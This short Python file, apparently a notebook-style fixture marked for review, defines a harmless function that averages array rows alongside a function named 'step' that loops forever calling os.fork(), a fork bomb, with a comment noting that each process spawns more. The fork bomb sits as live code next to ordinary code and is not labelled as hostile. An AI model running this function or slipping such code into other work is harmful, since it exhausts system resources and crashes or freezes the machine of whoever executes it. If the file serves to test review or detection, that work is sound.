# Each process makes two more.
# expect: row_means 2
# review
# %% step
def step(z):
    import os

    while True:
        os.fork()

# %% row_means
def row_means(x):
    return x.mean(axis=1)
